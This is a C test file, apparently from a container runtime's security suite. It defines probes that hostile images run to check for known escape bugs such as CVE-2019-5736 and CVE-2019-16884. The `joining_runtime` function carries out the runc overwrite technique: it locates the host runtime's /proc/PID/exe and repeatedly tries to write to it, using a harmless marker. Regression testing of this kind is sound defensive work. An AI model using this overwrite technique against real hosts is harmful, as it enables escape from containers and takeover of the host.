/* Images that were made to harm whoever starts a container from them; run.sh makes them. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <glob.h>
#include <linux/magic.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/vfs.h>
#include <unistd.h>

/* No attack: it shows that a container starts. */
static int nothing(void)
{
    return 0;
}

/* 34: the image is the attack. The host sees whether it worked (CVE-2021-30465 and many more). */
static int hostile_image(void)
{
    return stopped("inside the root");
}

/* 34: the image is another one at the moment of its use than it was when it was looked at. */
static int swapped_image(void)
{
    return leaks("swapped");
}

/* 34: so is a folder on the way to a volume's place. Then the volume comes to lie on /etc/place. */
static int swapped_target(void)
{
    return leaks("etc/place/file");
}

/* 35: a write to a /proc that is not proc goes where the image wants (CVE-2019-16884). */
static int fake_proc(void)
{
    struct statfs fs;

    if (statfs("/proc/self", &fs) < 0)
        return -1;
    return fs.f_type == PROC_SUPER_MAGIC ? stopped("proc") : 0;
}

/* Finds a process that runs the file "DEVICE:INODE"; returns its pid, or -1. */
static pid_t find_running(const char *wanted)
{
    char numbers[64];
    struct stat status;
    glob_t found;
    pid_t pid = -1;

    glob("/proc/[0-9]*/exe", 0, NULL, &found);
    for (size_t i = 0; i < found.gl_pathc; i++) {
        if (stat(found.gl_pathv[i], &status) < 0)
            continue;
        snprintf(numbers, sizeof(numbers), "%ju:%ju", (uintmax_t)status.st_dev,
                 (uintmax_t)status.st_ino);
        if (strcmp(numbers, wanted) == 0)
            pid = (pid_t)strtol(found.gl_pathv[i] + strlen("/proc/"), NULL, 10);
    }
    globfree(&found);
    return pid;
}

/*
 * 39: /proc/PID/exe is the very file that a process runs, wherever that file is. An attacker who
 * finds it can write to it, as soon as nobody runs it (CVE-2019-5736).
 */
static int runtime(void)
{
    if (need_proc() < 0)
        return -1;
    pid_t pid = find_running(host.argument);
    if (pid < 0)
        return stopped("not found");
    return access(format("/proc/%d/exe", pid), W_OK) == 0 || errno == ETXTBSY ? 0 : -1;
}

static void say(const char *word)
{
    puts(word);
    fflush(stdout);
}

/* Returns whether the host has closed stdin: then it has done its part. */
static bool host_is_done(void)
{
    struct pollfd input = {.fd = STDIN_FILENO};

    return poll(&input, 1, 0) > 0;
}

/* 39: the program that enters runs itself again inside, for a moment, many times. */
static int joining_runtime(void)
{
    int file = -1;

    say("ready");
    while (file < 0 && !host_is_done()) {
        pid_t pid = find_running(host.argument);

        file = pid < 0 ? -1 : open(format("/proc/%d/exe", pid), O_PATH);
    }
    if (file < 0)
        return stopped("not found");
    say("found");
    for (int i = 0; i < 1000; i++) {
        if (overwrite(format("/proc/self/fd/%d", file), "attacked") == 0)
            return 0;
        if (errno != ETXTBSY)
            break;
        usleep(10000);
    }
    return -1;
}

const struct attack image_attacks[] = {
    {"nothing", nothing},
    {"hostile_image", hostile_image},
    {"swapped_image", swapped_image},
    {"swapped_target", swapped_target},
    {"fake_proc", fake_proc},
    {"fake_proc_volume", fake_proc},
    {"runtime", runtime},
    {"joining_runtime", joining_runtime},
    {0},
};
